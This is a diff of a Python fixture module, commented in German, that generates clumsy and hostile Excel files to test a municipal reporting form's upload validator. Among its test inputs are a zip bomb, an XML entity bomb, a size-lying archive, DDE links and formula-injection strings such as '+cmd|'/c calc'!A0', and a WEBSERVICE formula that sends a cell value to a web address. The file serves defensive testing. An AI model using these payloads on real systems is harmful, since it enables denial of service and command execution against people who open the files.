@@ -1,0 +1,565 @@
+"""Clumsy and hostile files of our own making: name → bytes and file name. What each must give is in test_faelle.py."""
+
+from __future__ import annotations
+
+import re
+import struct
+import zipfile
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from functools import cache, reduce
+from io import BytesIO
+from types import MappingProxyType
+from xml.sax.saxutils import escape
+
+from eingaben.bauen import (
+    BLATT,
+    RELS,
+    STRICT,
+    TEXTE,
+    TRANSITIONAL,
+    WERTE,
+    ausgefuellt,
+    eigenes_blatt,
+    ersatz,
+    gefuellt,
+    geteilte_texte,
+    kopiertes_blatt,
+    mit_beziehung,
+    mit_blatt,
+    mit_kommentar,
+    mit_teil,
+    mit_textfeld,
+    mit_zelle,
+    namen,
+    namensziel,
+    ole,
+    ort,
+    packen,
+    teile,
+    umbau,
+    umbenannt,
+    verschoben,
+    vorlage,
+    zelle,
+)
+from krs.demo.fuellen import fuelle
+from krs.formulare.formular import formular
+from krs.mappen.stempel import Angaben, stempeln
+
+AHV = "756.1234.5678.97"  # valid check digit, nobody's
+ERST, PERSONEN = "erst_einzelpersonen", "erst_personen"
+OFFEN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+EXTERN = ' TargetMode="External"'
+ANHANG3 = {
+    "kontakt_funktion": "Integrationsbeauftragte", "kontakt_telefon": "032 123 45 67",
+    "beauftragte_email": "anna.muster@example.ch", "beauftragte_telefon": "032 123 45 67", "aufwand_franken": 9000,
+}  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Datei:
+    """One file: how it is made, and what it is called."""
+
+    bauen: Callable[[], bytes]
+    name: str = "Formular.xlsx"
+
+
+def text(feld: str, inhalt: str, kennung: str = "anhang2") -> bytes:
+    """Return the filled form with a text in one field."""
+    if kennung == "anhang3":
+        return gefuellt(kennung, **{**ANHANG3, feld: inhalt})
+    return mit_zelle(feld, 't="inlineStr"', f'<is><t xml:space="preserve">{escape(inhalt)}</t></is>')
+
+
+def zahl(feld: str, roh: str) -> bytes:
+    """Return the filled Anhang 2 with a number in one field."""
+    return mit_zelle(feld, "", f"<v>{roh}</v>")
+
+
+def formel(feld: str, inhalt: str, wert: str = "", attribute: str = "") -> bytes:
+    """Return the filled Anhang 2 with a formula in one field."""
+    return mit_zelle(feld, attribute, f"<f>{escape(inhalt)}</f>{wert}")
+
+
+def anhang3(**werte: object) -> bytes:
+    """Return a whole Anhang 3, changed in these fields."""
+    return gefuellt("anhang3", **{**ANHANG3, **werte})
+
+
+def daneben(adresse: str, inhalt: str) -> bytes:
+    """Return the filled Anhang 2 with a text in a cell that is no field."""
+    return umbau(ausgefuellt(), blatt=zelle(adresse, 't="inlineStr"', f"<is><t>{inhalt}</t></is>"))
+
+
+def im_nachweis(inhalt: str) -> bytes:
+    """Return the filled Anhang 2 with a text in the sheet Nachweis."""
+    alt = teile(ausgefuellt())["xl/worksheets/sheet2.xml"]
+    neu = zelle("D5", 't="inlineStr"', f"<is><t>{inhalt}</t></is>")(alt)
+    return mit_teil(ausgefuellt(), "xl/worksheets/sheet2.xml", neu)
+
+
+# --- moved, merged, copied --------------------------------------------------------------------
+def ausgeschnitten() -> bytes:
+    """Return the form with one entry cut and pasted elsewhere: the name goes along, the old cell is bare."""
+    weg = zelle(ort("erst_familien"), "", "")
+    hin = ersatz("</sheetData>", '<row r="90"><c r="H90"><v>3</v></c></row></sheetData>')
+    return umbau(ausgefuellt(), blatt=lambda xml: hin(weg(xml)), mappe=namensziel("erst_familien", "Reporting!$H$90"))
+
+
+def verbunden(bereich: str, *geleert: str) -> bytes:
+    """Return the form with entry cells merged: Excel keeps the first value only."""
+
+    def blatt(xml: bytes) -> bytes:
+        xml = reduce(lambda x, a: zelle(a, "", "")(x), geleert, xml)
+        neu = f'<mergeCell ref="{bereich}"/></mergeCells>'.encode()
+        return re.sub(
+            rb'<mergeCells count="(\d+)">', lambda m: b'<mergeCells count="%d">' % (int(m[1]) + 1), xml
+        ).replace(b"</mergeCells>", neu)
+
+    return umbau(ausgefuellt(), blatt=blatt)
+
+
+def sprachen(*zeilen: tuple[int, str, int]) -> bytes:
+    """Return the form with languages in other rows of the list."""
+    leer = [["", None]] * 8
+    for nummer, sprache, anzahl in zeilen:
+        leer[nummer] = [sprache, anzahl]  # type: ignore[list-item]
+    return gefuellt(sprachen=[[s or None, n] for s, n in leer])
+
+
+def breitere_liste(voll: bool) -> bytes:
+    """Return the form with a column put behind the list, filled or not."""
+    daten = umbau(ausgefuellt(), mappe=lambda xml: namen(xml, lambda o: o.replace(":$C$", ":$D$")))
+    inhalt = "<v>7</v>" if voll else ""
+    return umbau(daten, blatt=lambda xml: zelle("D41", "", inhalt)(zelle("D40", "", inhalt)(xml)))
+
+
+def ohne_eingaberegeln() -> bytes:
+    """Return the form after a paste that took formats and validations with it."""
+
+    def blatt(xml: bytes) -> bytes:
+        xml = re.sub(rb"<dataValidations.*</dataValidations>", b"", xml)
+        return re.sub(rb'(<c r="[A-Z]+\d+") s="\d+"', rb"\1", xml)
+
+    return umbau(ausgefuellt(), blatt=blatt)
+
+
+def fremde_gemeinde(xml: bytes) -> bytes:
+    """Return the form sheet with another municipality's name, as a copied-in sheet has it."""
+    return zelle("B2", 't="inlineStr"', "<is><t>Trimbach</t></is>")(xml)
+
+
+def blattfolge(xml: bytes) -> bytes:
+    """Return the workbook with its sheets in reverse order."""
+    blaetter = re.findall(rb"<sheet [^>]*/>", xml)
+    return re.sub(rb"<sheets>.*</sheets>", b"<sheets>" + b"".join(reversed(blaetter)) + b"</sheets>", xml)
+
+
+def zeile_geloescht() -> bytes:
+    """Return the form without its row «mit Familien»: the names of its cells lead nowhere."""
+    kaputt = [namensziel(f"{art}_familien", "Reporting!#REF!") for art in ("erst", "integ")]
+    return umbau(ausgefuellt(), mappe=lambda xml: reduce(lambda x, n: n(x), kaputt, xml))
+
+
+def nur_die_kopie() -> bytes:
+    """Return the form whose sheet was copied and then deleted: only the copy is left, with names of its own."""
+    daten = kopiertes_blatt(ausgefuellt(), "Reporting (2)")
+    weg = re.compile(rb'<sheet name="Reporting" [^>]*/>')
+    return umbau(daten, mappe=lambda xml: weg.sub(b"", re.sub(rb">Reporting![^<]*", b">#REF!", xml)))
+
+
+# --- another template -------------------------------------------------------------------------
+def vom_letzten_jahr() -> bytes:
+    """Return last year's template, filled in, with the period typed over."""
+    alt = stempeln(formular("anhang2"), Angaben(2581, "Olten", "2023-H1"))
+    daten = fuelle(alt, "anhang2", "2022-01", WERTE["anhang2"])
+    return umbau(daten, blatt=zelle("F4", 't="inlineStr"', "<is><t>2024-H1</t></is>"))
+
+
+# --- macros, links ----------------------------------------------------------------------------
+def mit_makros() -> bytes:
+    """Return the form as .xlsm."""
+    daten = mit_teil(ausgefuellt(), "xl/vbaProject.bin", ole("VBA", "PROJECT"))
+    return mit_beziehung(daten, RELS, "vbaProject", "vbaProject.bin")
+
+
+def mit_alten_makros() -> bytes:
+    """Return the form with an Excel 4 macro sheet, very hidden."""
+    makro = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {OFFEN}/>'.encode()
+    daten = mit_teil(ausgefuellt(), "xl/macrosheets/sheet1.xml", makro)
+    return mit_beziehung(daten, RELS, "xlMacrosheet", "macrosheets/sheet1.xml")
+
+
+def mit_verknuepfung(daten: bytes, inhalt: str) -> bytes:
+    """Return a workbook with a link to another one, or to a program."""
+    xml = f'<externalLink {OFFEN} xmlns:r="{_R}">{inhalt}</externalLink>'.encode()
+    daten = mit_teil(daten, "xl/externalLinks/externalLink1.xml", xml)
+    rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
+    daten = mit_beziehung(daten, rels, "externalLinkPath", "Liste.xlsx", EXTERN, "rId1")
+    daten = mit_beziehung(daten, RELS, "externalLink", "externalLinks/externalLink1.xml", "", "fremd1")
+    bezug = '</sheets><externalReferences><externalReference r:id="fremd1"/></externalReferences>'
+    return umbau(daten, mappe=ersatz("</sheets>", bezug))
+
+
+def mit_abfrage() -> bytes:
+    """Return the form with a data connection."""
+    xml = f'<connections {OFFEN}><connection id="1" name="Web"><webPr url="https://example.ch"/></connection></connections>'
+    daten = mit_teil(ausgefuellt(), "xl/connections.xml", xml.encode())
+    return mit_beziehung(daten, RELS, "connections", "connections.xml")
+
+
+BUCH = '<externalBook r:id="rId1"><sheetNames><sheetName val="Liste"/></sheetNames></externalBook>'
+DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
+HYPERLINKS = (("mailto:anna@example.ch", "hyperlink"), ("https://so.ch/integration", "hyperlink"))
+
+
+def mit_hyperlinks() -> bytes:
+    """Return the form with links that people click."""
+    daten = ausgefuellt()
+    for ziel, art in HYPERLINKS:
+        daten = mit_beziehung(daten, "xl/worksheets/_rels/sheet1.xml.rels", art, ziel, EXTERN)
+    return daten
+
+
+def mit_fernem_bild() -> bytes:
+    """Return the form with a picture that lies on a server."""
+    rels = "xl/drawings/_rels/drawing1.xml.rels"
+    return mit_beziehung(mit_textfeld(ausgefuellt(), "Logo"), rels, "image", "https://example.ch/logo.png", EXTERN)
+
+
+# --- the same content, saved otherwise --------------------------------------------------------
+def strikt(xml: bytes) -> bytes:
+    """Return a part in strict OOXML."""
+    return xml.replace(TRANSITIONAL.encode(), STRICT.encode()).replace(
+        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
+    )
+
+
+def mit_praefix(xml: bytes) -> bytes:
+    """Return a part whose elements all have a prefix."""
+    return re.sub(rb"<(/?)([A-Za-z])", rb"<\1x:\2", xml).replace(b' xmlns="', b' xmlns:x="')
+
+
+def utf16(xml: bytes) -> bytes:
+    """Return a part in UTF-16."""
+    return xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+
+
+def gestueckelt() -> bytes:
+    """Return the form with texts in runs of different formats, and with phonetic runs."""
+    lauf = "<r><t>Tig</t></r><r><rPr><b/></rPr><t>rinya</t></r>"
+    laut = '<rPh sb="0" eb="1"><t>ティ</t></rPh><phoneticPr fontId="1"/>'
+    return umbau(ausgefuellt(), blatt=zelle("B40", 't="inlineStr"', f"<is>{lauf}{laut}</is>"))
+
+
+def mit_kennzeichen() -> bytes:
+    """Return an archive whose entries tell their size behind the data only, as streaming programs write it."""
+
+    class Strom(BytesIO):
+        def seekable(self) -> bool:
+            return False
+
+        def tell(self) -> int:
+            raise OSError
+
+        def seek(self, *_: int) -> int:
+            raise OSError
+
+    strom = Strom()
+    with zipfile.ZipFile(strom, "w", zipfile.ZIP_DEFLATED) as zip_:
+        for name, inhalt in teile(ausgefuellt()).items():
+            zip_.writestr(name, inhalt)
+    return strom.getvalue()
+
+
+def ohne_eigenschaften() -> bytes:
+    """Return the form without its docProps, as some programs write it."""
+    return packen({n: v for n, v in teile(ausgefuellt()).items() if not n.startswith("docProps/")})
+
+
+def ab_1904() -> bytes:
+    """Return the form counted from 1904, as old Macs did: 10.07.2024 is day 44021."""
+    daten = zahl("datum", "44021")
+    return umbau(daten, mappe=ersatz("<workbookPr ", '<workbookPr date1904="1" '))
+
+
+def gemeinsame_formel() -> bytes:
+    """Return the form with one formula shared by two counts; the second cell names it by number only."""
+    erste = zelle("C21", "", '<f t="shared" ref="C21:C22" si="0">4+4</f><v>8</v>')
+    zweite = zelle("C22", "", '<f t="shared" si="0"/><v>8</v>')
+    return umbau(ausgefuellt(), blatt=lambda xml: zweite(erste(xml)))
+
+
+def doppelter_teil() -> bytes:
+    """Return the form with a second part of the name of its sheet."""
+    puffer = BytesIO(ausgefuellt())
+    with zipfile.ZipFile(puffer, "a") as zip_:
+        zip_.writestr("xl/Worksheets/SHEET1.xml", b"<worksheet/>")
+    return puffer.getvalue()
+
+
+def zip_bombe() -> bytes:
+    """Return the form with a picture of 61 MB in 60 KB."""
+    puffer = BytesIO(ausgefuellt())
+    with zipfile.ZipFile(puffer, "a", zipfile.ZIP_DEFLATED) as zip_, zip_.open("xl/media/bild.emf", "w") as strom:
+        for _ in range(61):
+            strom.write(b" " * 1_000_000)
+    return puffer.getvalue()
+
+
+def xml_bombe(xml: bytes) -> bytes:
+    """Return a part that grows to a gigabyte if its entities are resolved."""
+    lol = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(9))
+    return xml.replace(b"<worksheet", f"<!DOCTYPE w [{lol}]><worksheet".encode(), 1)
+
+
+def mit_luege() -> bytes:
+    """Return the form whose sheet unpacks to 30 MB but says 1,000 bytes."""
+    inhalt = teile(ausgefuellt())
+    echt = inhalt[BLATT] + b" " * 30_000_000
+    return packen({**inhalt, BLATT: echt}).replace(struct.pack("<I", len(echt)), struct.pack("<I", 1000))
+
+
+def kopfzeile(xml: bytes) -> bytes:
+    """Return the form sheet with a number in the header of its print."""
+    return xml.replace(
+        b"</worksheet>", f"<headerFooter><oddHeader>&amp;L{AHV}</oddHeader></headerFooter></worksheet>".encode()
+    )
+
+
+LISTE = eigenes_blatt(("Datum", "Wer"), ("10.07.2024", "Anna Muster"))
+LISTE_MIT_NUMMER = eigenes_blatt(("Datum", "Wer"), ("10.07.2024", "7561234567897"))
+GUT = ausgefuellt
+
+_FAELLE: dict[str, Callable[[], bytes] | Datei] = {
+    # numbers as people type them
+    "Anhang 2 ohne Fehler": GUT,
+    "Anhang 3 ohne Fehler": anhang3,
+    "Zahl mit geradem Apostroph": lambda: text(PERSONEN, "3'000"),
+    "Zahl mit typografischem Apostroph": lambda: text(PERSONEN, "3’000"),
+    "Zahl mit geschütztem Leerschlag": lambda: text(PERSONEN, "1\u00a0200"),
+    "Zahl mit schmalem Leerschlag": lambda: text(PERSONEN, "1\u202f200"),
+    "Zahl mit Punkt und Null": lambda: text(PERSONEN, "19.0"),
+    "Zahl mit Komma und Null": lambda: text(PERSONEN, "19,0"),
+    "Zahl mit Strich wie ein Betrag": lambda: text(PERSONEN, "19.–"),
+    "Zahl in breiten Ziffern": lambda: text(ERST, "\uff18"),
+    "Zahl in arabischen Ziffern": lambda: text(ERST, "\u0668"),
+    "Zahl mit Leerschlägen dahinter": lambda: text(ERST, "8   "),
+    "Zahl mit Apostroph davor": lambda: text(ERST, "'8"),
+    "Zahl mit «ca.»": lambda: text(ERST, "ca. 5"),
+    "Zahl in Worten": lambda: text(ERST, "fünf"),
+    "Zahl mit Einheit": lambda: text(ERST, "8 Gespräche"),
+    "Strich statt Null": lambda: text(ERST, "-"),
+    "Negative Anzahl": lambda: zahl(ERST, "-3"),
+    "Halbes Gespräch": lambda: zahl(ERST, "2.5"),
+    "Riesige Anzahl": lambda: zahl(ERST, "123456789012"),
+    "Höchste Anzahl": lambda: zahl(PERSONEN, "9999"),
+    "Zahl in wissenschaftlicher Schreibweise": lambda: zahl(PERSONEN, "1E3"),
+    "Text in wissenschaftlicher Schreibweise": lambda: text(ERST, "1e3"),
+    "Prozent in einer Anzahl": lambda: text(ERST, "50%"),
+    "Datum in einer Anzahl": lambda: zahl(ERST, "45385"),
+    "Datum als Text in einer Anzahl": lambda: text(ERST, "45'385"),
+    "Uhrzeit in einer Anzahl": lambda: zahl(ERST, "0.375"),
+    "WAHR in einer Anzahl": lambda: mit_zelle(ERST, 't="b"', "<v>1</v>"),
+    "Rauschen der Rechnung": lambda: zahl(ERST, "8.0000000000000018"),
+    # days
+    "Datum als Text": lambda: text("datum", "10.07.2024"),
+    "Datum kurz": lambda: text("datum", "10.7.24"),
+    "Datum mit Leerschlägen": lambda: text("datum", "10. 7. 2024"),
+    "Datum nach ISO": lambda: text("datum", "2024-07-10"),
+    "Datum mit Monatsnamen": lambda: text("datum", "10. Juli 2024"),
+    "Datum mit Schrägstrichen": lambda: text("datum", "10/07/2024"),
+    "Datum mit Uhrzeit": lambda: zahl("datum", "45483.6"),
+    # formulas and errors
+    "Rechnung statt Zahl": lambda: formel(ERST, "5+3", "<v>8</v>"),
+    "Formel ohne Ergebnis": lambda: formel(ERST, "5+3"),
+    "Formel aus einer anderen Datei": lambda: mit_verknuepfung(formel(ERST, "[1]Liste!$B$2", "<v>8</v>"), BUCH),
+    "Formel auf ein eigenes Blatt": lambda: mit_blatt(formel(ERST, "Liste!A9", "<v>8</v>"), "Liste", LISTE),
+    "Bezugsfehler": lambda: formel(ERST, "#REF!+1", "<v>#REF!</v>", 't="e"'),
+    "Nicht vorhanden": lambda: mit_zelle(ERST, 't="e"', "<v>#N/A</v>"),
+    "Division durch null": lambda: formel(ERST, "1/0", "<v>#DIV/0!</v>", 't="e"'),
+    "Fehlerwert ohne Beitrag": lambda: mit_zelle(PERSONEN, 't="e"', "<v>#N/A</v>"),
+    "Gemeinsame Formel": gemeinsame_formel,
+    # answers
+    "WAHR statt Ja": lambda: mit_zelle("bestaetigung", 't="b"', "<v>1</v>"),
+    "FALSCH statt Nein": lambda: mit_zelle("bestaetigung", 't="b"', "<v>0</v>"),
+    "Formel WAHR() statt Ja": lambda: formel("bestaetigung", "TRUE()", "<v>1</v>", 't="b"'),
+    "ja klein": lambda: text("bestaetigung", "ja"),
+    "JA mit Leerschlag": lambda: text("bestaetigung", "JA "),
+    "j statt Ja": lambda: text("bestaetigung", "j"),
+    "x statt Ja": lambda: text("bestaetigung", "x"),
+    "Nein mit Punkt": lambda: text("nullmeldung", "Nein."),
+    "1 statt Ja": lambda: zahl("bestaetigung", "1"),
+    "Auswahl gross geschrieben": lambda: anhang3(aufgabe_1="ERFÜLLT "),
+    "Auswahl ausserhalb der Liste": lambda: anhang3(aufgabe_1="mehrheitlich"),
+    "Pensum als Text": lambda: anhang3(beauftragte_pensum="20 %"),
+    "Pensum in Prozentpunkten": lambda: anhang3(beauftragte_pensum=20),
+    "E-Mail mit zwei Adressen": lambda: text("kontakt_email", "anna@example.ch; eva@example.ch"),
+    "Nur Leerschläge": lambda: text(ERST, " \u00a0 "),
+    "Unbestätigt": lambda: text("bestaetigung", "Nein"),
+    # templates
+    "Leer zurück": vorlage,
+    "Leer zurück mit Makros": lambda: mit_teil(vorlage(), "xl/vbaProject.bin", b"x"),
+    "Formular vom letzten Jahr": vom_letzten_jahr,
+    "Andere Gemeinde eingetragen": lambda: umbau(ausgefuellt(), blatt=fremde_gemeinde),
+    "Kennung verändert": lambda: umbau(ausgefuellt(), kenn=zelle("B4", 't="str"', "<v>2024-H2</v>")),
+    "Kennung mit AHV-Nummer": lambda: umbau(ausgefuellt(), kenn=zelle("B5", 't="str"', f"<v>{AHV}</v>")),
+    "Version, die es nicht gibt": lambda: umbau(ausgefuellt(), kenn=zelle("B2", 't="str"', "<v>2099-01</v>")),
+    "Kennblatt gelöscht": lambda: umbau(ausgefuellt(), mappe=ersatz('name="_krs"', 'name="Blatt4"')),
+    "Name gelöscht": lambda: umbau(ausgefuellt(), mappe=namensziel("datum", "Reporting!#REF!")),
+    "Zeile gelöscht": zeile_geloescht,
+    "Liste mit leerer Spalte": lambda: breitere_liste(False),
+    "Liste mit voller Spalte": lambda: breitere_liste(True),
+    "Liste weiter unten ausgefüllt": lambda: sprachen((3, "Tigrinya", 4), (7, "Arabisch", 2)),
+    "Liste mit Summe daneben": lambda: sprachen((0, "Tigrinya", 4), (1, "Arabisch", 3)),
+    "Liste mit Einheit": lambda: gefuellt(sprachen=[["Tigrinya", "4 Einsätze"], ["Arabisch", 2]]),
+    "Felder nebeneinander verbunden": lambda: verbunden("C21:D21"),
+    "Felder untereinander verbunden": lambda: verbunden("C21:C22", "C22"),
+    "Feld ausgeschnitten und eingefügt": ausgeschnitten,
+    "Zeilen eingefügt": lambda: verschoben(ausgefuellt(), 2, 0),
+    "Spalten eingefügt": lambda: verschoben(ausgefuellt(), 0, 3),
+    "Eingaberegeln und Formate verloren": ohne_eingaberegeln,
+    "Blatt umbenannt": lambda: umbenannt(ausgefuellt(), "1. Halbjahr"),
+    "Blatt ausgeblendet": lambda: umbau(ausgefuellt(), mappe=ersatz('"Reporting"', '"Reporting" state="hidden"')),
+    "Blatt ganz versteckt": lambda: umbau(ausgefuellt(), mappe=ersatz('"Reporting"', '"Reporting" state="veryHidden"')),
+    "Blätter umgestellt": lambda: umbau(ausgefuellt(), mappe=blattfolge),
+    "Eigenes Blatt dazu": lambda: mit_blatt(ausgefuellt(), "Gesprächsliste", LISTE),
+    "Blatt in der Mappe kopiert": lambda: kopiertes_blatt(ausgefuellt(), "Reporting (2)"),
+    "Blatt einer anderen Gemeinde dazu": lambda: kopiertes_blatt(ausgefuellt(), "Trimbach", fremde_gemeinde),
+    "Kopie ohne Namen": lambda: mit_blatt(ausgefuellt(), "Sicherung", teile(ausgefuellt())[BLATT]),
+    "Selbstdeklaration dazu": lambda: mit_blatt(
+        ausgefuellt(), "Selbstdeklaration", _mit_texten(teile(geloeste_texte(anhang3()))[BLATT])
+    ),
+    "Blatt kopiert, Original gelöscht": nur_die_kopie,
+    "Zwei Kopien": lambda: kopiertes_blatt(kopiertes_blatt(ausgefuellt(), "Reporting (2)"), "Reporting (3)"),
+    "Kopie des Kennblatts": lambda: mit_blatt(
+        ausgefuellt(), "_krs (2)", teile(ausgefuellt())["xl/worksheets/sheet4.xml"], ' state="hidden"'
+    ),
+    "Umbenannt und kopiert": lambda: mit_blatt(
+        umbenannt(ausgefuellt(), "Juli"), "Juli (2)", teile(ausgefuellt())[BLATT]
+    ),
+    "Erläuterungen umbenannt": lambda: umbau(ausgefuellt(), mappe=ersatz("Erläuterungen", "Hilfe")),
+    # macros and links
+    "Makros": Datei(mit_makros, "Formular.xlsm"),
+    "Makros mit Rückstrichen": lambda: packen(
+        {n.replace("/", "\\"): v for n, v in teile(mit_makros()).items()}
+    ),
+    "Makros unter anderem Namen": lambda: mit_beziehung(
+        mit_teil(ausgefuellt(), "xl/daten.bin", b"x"), RELS, "vbaProject", "daten.bin"
+    ),
+    "Excel-4-Makros": mit_alten_makros,
+    "Verknüpfung zu einer Mappe": lambda: mit_verknuepfung(ausgefuellt(), BUCH),
+    "DDE-Verknüpfung": lambda: mit_verknuepfung(ausgefuellt(), DDE),
+    "Datenverbindung": mit_abfrage,
+    "Bild von einem Server": mit_fernem_bild,
+    "Hyperlinks und E-Mail-Adressen": mit_hyperlinks,
+    "Makros und Verknüpfungen": lambda: mit_verknuepfung(mit_makros(), DDE),
+    # the same, saved otherwise
+    "Falsche Grösse": lambda: umbau(ausgefuellt(), blatt=ersatz('<dimension ref="A1:F60"', '<dimension ref="A1"')),
+    "Zelle in der letzten Ecke": lambda: umbau(
+        ausgefuellt(),
+        blatt=ersatz("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
+    ),
+    "Gemeinsame Texte": lambda: geteilte_texte(ausgefuellt()),
+    "Texte in Stücken": gestueckelt,
+    "Strict OOXML": lambda: umbau(ausgefuellt(), alle=strikt),
+    "Namensräume mit Präfix": lambda: umbau(ausgefuellt(), mappe=mit_praefix, blatt=mit_praefix, kenn=mit_praefix),
+    "Teile in UTF-16": lambda: umbau(ausgefuellt(), alle=utf16),
+    "Pfade mit Rückstrichen": lambda: packen({n.replace("/", "\\"): v for n, v in teile(ausgefuellt()).items()}),
+    "Ohne Eigenschaften": ohne_eigenschaften,
+    "Zeitrechnung ab 1904": ab_1904,
+    "Archiv mit Grössen am Schluss": mit_kennzeichen,
+    "Archiv ungepackt": lambda: packen(teile(ausgefuellt()), zipfile.ZIP_STORED),
+    "Archiv mit Anhängsel": lambda: ausgefuellt() + b"\r\n-- \r\nGesendet",
+    # no workbook
+    "Leere Datei": Datei(lambda: b""),
+    "Abgebrochene Übertragung": Datei(lambda: ausgefuellt()[:9000]),
+    "Doppelter Teil": doppelter_teil,
+    "Zip-Bombe": zip_bombe,
+    "XML-Bombe": lambda: umbau(ausgefuellt(), blatt=xml_bombe),
+    "Blatt, das seine Grösse verschweigt": mit_luege,
+    "Verschlüsselt": Datei(lambda: ole("EncryptionInfo", "EncryptedPackage")),
+    "Altes Excel": Datei(lambda: ole("Workbook"), "Formular.xls"),
+    "Binäres Excel": Datei(lambda: packen({"xl/workbook.bin": b""}), "Formular.xlsb"),
+    "OpenDocument": Datei(
+        lambda: packen({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "Formular.ods"
+    ),
+    "Apple Numbers": Datei(lambda: packen({"Index/Document.iwa": b""}), "Formular.numbers"),
+    "Textdatei": Datei(lambda: b"Feld;Wert\nFamilien;8\n", "Formular.csv"),
+    "PDF mit falscher Endung": Datei(lambda: b"%PDF-1.7\n%\xe2\xe3"),
+    "HTML mit falscher Endung": Datei(lambda: b"<html><table><tr><td>8</td></tr></table></html>", "Formular.xls"),
+    "Brief": Datei(lambda: packen({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}), "Brief.docx"),
+    "Eigene Mappe": Datei(
+        lambda: umbau(ausgefuellt(), kenn=zelle("B1", "", ""), mappe=ersatz('"_krs"', '"_alt"')), "Liste.xlsx"
+    ),
+    "Sperrdatei": Datei(lambda: b"\x05Muster".ljust(165), "~$Formular.xlsx"),
+    "Gespeicherte E-Mail": Datei(lambda: b"From: anna@example.ch\r\n\r\nGuten Tag", "Reporting.eml"),
+    "Verweis auf Google": Datei(lambda: b'{"url": "https://docs.google.com/open?id=1"}', "Reporting.gsheet"),
+    "Platzhalter der Cloud": Datei(lambda: b"bplist00", ".Formular.xlsx.icloud"),
+    # AHV numbers
+    "AHV-Nummer in den Bemerkungen": lambda: text("bemerkungen", f"Frau X, {AHV}, umgezogen"),
+    "AHV-Nummer mit Leerschlägen": lambda: text("bemerkungen", "756 1234 5678 97"),
+    "AHV-Nummer mit Strichen": lambda: text("bemerkungen", "756-1234-5678-97"),
+    "AHV-Nummer ohne Zeichen": lambda: text("bemerkungen", "7561234567897"),
+    "AHV-Nummer in breiten Ziffern": lambda: daneben("D21", "\uff17\uff15\uff16.1234.5678.97"),
+    "AHV-Nummer in einer Anzahl": lambda: zahl(PERSONEN, "7561234567897"),
+    "AHV-Nummer neben den Feldern": lambda: daneben("D21", f"Frau X: {AHV}"),
+    "AHV-Nummer in Stücken": lambda: umbau(
+        ausgefuellt(),
+        blatt=zelle("D21", 't="inlineStr"', "<is><r><t>756.1234.</t></r><r><rPr><b/></rPr><t>5678.97</t></r></is>"),
+    ),
+    "AHV-Nummer im Nachweis": lambda: im_nachweis(AHV),
+    "AHV-Nummer in den gemeinsamen Texten": lambda: geteilte_texte(daneben("D21", AHV)),
+    "AHV-Nummer auf einem eigenen Blatt": lambda: mit_blatt(ausgefuellt(), "Liste", LISTE_MIT_NUMMER),
+    "AHV-Nummer in einem Kommentar": lambda: mit_kommentar(ausgefuellt(), "C21", f"Frau X, {AHV}"),
+    "AHV-Nummer in einem Textfeld": lambda: mit_textfeld(ausgefuellt(), f"Frau X, {AHV}"),
+    "AHV-Nummer in der Kopfzeile": lambda: umbau(ausgefuellt(), blatt=kopfzeile),
+    "AHV-Nummer als Blattname": lambda: umbenannt(ausgefuellt(), AHV),
+    "AHV-Nummer im Feld und daneben": lambda: umbau(
+        text("bemerkungen", AHV), blatt=zelle("D21", 't="inlineStr"', f"<is><t>{AHV}</t></is>")
+    ),
+    "AHV-Nummer und leeres Formular": lambda: umbau(
+        vorlage(), blatt=zelle("D21", 't="inlineStr"', f"<is><t>{AHV}</t></is>")
+    ),
+    "Keine AHV-Nummer: falsche Prüfziffer": lambda: daneben("D21", "756.1234.5678.98"),
+    "Keine AHV-Nummer: längere Nummer": lambda: daneben("D21", "17561234567897"),
+    # texts that look like formulas
+    "Text wie eine Formel": lambda: text("bemerkungen", '=HYPERLINK("https://example.ch";"hier")'),
+    "Text wie ein Befehl": lambda: text("kontakt_name", "+cmd|'/c calc'!A0"),
+    "Text wie eine alte Formel": lambda: text("kontakt_funktion", "@SUM(1+1)"),
+    "Formel mit Befehl": lambda: formel("bemerkungen", "cmd|'/c calc'!A0", "<v>0</v>"),
+    "Formel mit Webadresse": lambda: formel(
+        "bemerkungen", 'WEBSERVICE("https://example.ch/?q="&C9)', "<v>ok</v>", 't="str"'
+    ),
+    "Text mit Markierungen": lambda: text("bemerkungen", "<script>alert(1)</script> & \u202egedreht"),
+}  # fmt: skip
+
+
+def geloeste_texte(daten: bytes) -> bytes:
+    """Return a workbook whose texts stand in the cells of its first sheet, as in a sheet copied elsewhere."""
+    inhalt = teile(daten)
+    texte = re.findall(rb"<si>(.*?)</si>", inhalt[TEXTE], re.DOTALL)
+
+    def hinein(treffer: re.Match[bytes]) -> bytes:
+        return b' t="inlineStr"><is>%s</is>' % texte[int(treffer[1])]
+
+    inhalt[BLATT] = re.sub(rb' t="s"><v>(\d+)</v>', hinein, inhalt[BLATT])
+    return packen(inhalt)
+
+
+def _mit_texten(xml: bytes) -> bytes:
+    assert b' t="s"' not in xml
+    return xml
+
+
+@cache
+def dateien() -> Mapping[str, tuple[bytes, str]]:
+    """Return all files: name of the case → bytes and file name."""
+    alle = {name: f if isinstance(f, Datei) else Datei(f) for name, f in _FAELLE.items()}
+    return MappingProxyType({name: (f.bauen(), f.name) for name, f in alle.items()})
+
+
+__all__ = ["AHV", "dateien"]
